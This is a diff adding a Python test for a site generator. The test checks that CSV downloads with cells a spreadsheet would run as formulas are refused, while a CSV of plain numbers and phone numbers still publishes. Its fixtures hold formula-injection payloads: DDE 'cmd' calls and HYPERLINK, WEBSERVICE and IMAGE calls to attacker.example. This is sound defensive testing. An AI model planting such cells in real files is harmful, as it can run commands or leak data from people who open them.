@@ -265,3 +265,57 @@ def test_editors_files_get_the_checks_downloads_get(tmp_path):
         assert re.search(rf"^{re.escape(path)}:1:1 \[unsafe-output\] the published `{re.escape(published)}` "
                          rf".*{re.escape(says)}", result.stderr, re.M), (path, result.stderr[-3000:])
     assert tree_digest(project / "site") == before
+
+
+# --- Formulas in CSV downloads (attack5/FINDINGS.md 2) -----------------------------
+
+FORMULA_HINT = "hint: A spreadsheet runs a cell that starts with =, @, or + or - followed by more than a number"
+RUNS = "has a cell that a spreadsheet would run as a formula when the file is opened"
+# (file name, content, what the refusal says): the attacker's file and the
+# ways a cell can start a formula; each was published before this change.
+CSV_FORMULAS = [
+    ("attacker.csv", b'Area,Question,Link\nEvidence,"=HYPERLINK(""\\\\attacker.example\\share\\x"",""Open"")",x\n'
+                     b"Finance,=cmd|' /C calc'!A0,y\n", 'row 2, column B: `=HYPERLINK("\\\\attacker.example'),
+    ("at.csv", b"a,b\n1,@SUM(A1)\n", "row 2, column B: `@SUM(A1)`"),
+    ("minus.csv", b"a,b\n1,-2+cmd|' /C calc'!A0\n", "row 2, column B: `-2+cmd|"),
+    ("plus.csv", b"a,b\n1,+WEBSERVICE(\"https://attacker.example/\")\n", "row 2, column B: `+WEBSERVICE("),
+    ("after-tab.csv", b'a,b\n1,"\t=IMAGE(""https://attacker.example/p.png"")"\n', "row 2, column B: `=IMAGE("),
+    ("semicolons.csv", b"a;b;c\n1;2;=cmd|' /C calc'!A0\n", "row 2, column C: `=cmd|"),
+    ("tabs.csv", b"a\tb\n1\t =WEBSERVICE(A1)\n", "row 2, column B: `=WEBSERVICE(A1)`"),
+]
+# Numbers, phone numbers and a neutralised formula: data, published.
+GOOD_CSV = (b"Name,Phone,Change,Note\nPlanning team,+44 131 623 4300,-5,'=not a formula\n"
+            b"Finance,0131 623 4300,-(1,200.50),-12%\nOther,-,+3.5,text with = and - inside\n")
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_refused(tmp_path):
+    """Each file is refused at its download's line (a formula linked from the
+    body at the link's), by validate and by the build, with the fix; the
+    site stays as it was; a CSV of numbers and phone numbers publishes."""
+    project = make_project(tmp_path / "p", content={"deeper-dives/fine.md": with_downloads(["fine.csv"], "Fine"),
+                                                    "deeper-dives/files/fine.csv": GOOD_CSV})
+    assert build(project).returncode == 0
+    before = tree_digest(project / "site")
+    linked = "\n[The checklist](files/linked.csv)\n"
+    write_files(project, {A: with_downloads([name for name, _, _ in CSV_FORMULAS]) + linked,
+                          "at-a-glance/files/linked.csv": b"a\n=1+1\n",
+                          **{f"at-a-glance/files/{name}": content for name, content, _ in CSV_FORMULAS}})
+    first = GOOD.split("\n").index("status: current") + 3
+    link_line = with_downloads([name for name, _, _ in CSV_FORMULAS]).count("\n") + 2
+    for command in (("validate",), ("build", "--site-dir", "site")):
+        result = run_cli(project, *command)
+        out = result.stdout + result.stderr
+        assert result.returncode == 1 and "Traceback" not in out, (command, out[-3000:])
+        refused = problem_lines(out, "unsafe-file")
+        for number, (name, _, says) in enumerate(CSV_FORMULAS):
+            line = first + 2 * number
+            assert any(l.startswith(f"{A}:{line}:") and f"`files/{name}` {RUNS}" in l and says in l
+                       for l in refused), (command, name, says, refused)
+        assert any(l.startswith(f"{A}:{link_line}:17 [unsafe-file] `files/linked.csv` {RUNS} (row 2, column A: "
+                                "`=1+1`)") for l in refused), (command, refused)
+        assert len(refused) == len(CSV_FORMULAS) + 1, refused
+        assert out.count(FORMULA_HINT) == len(refused) and "put a ' before it, or remove the formula" in out
+    assert tree_digest(project / "site") == before
+    (project / A).unlink()
+    assert build(project).returncode == 0
+    assert (project / "site" / "deeper-dives" / "files" / "fine.csv").read_bytes() == GOOD_CSV
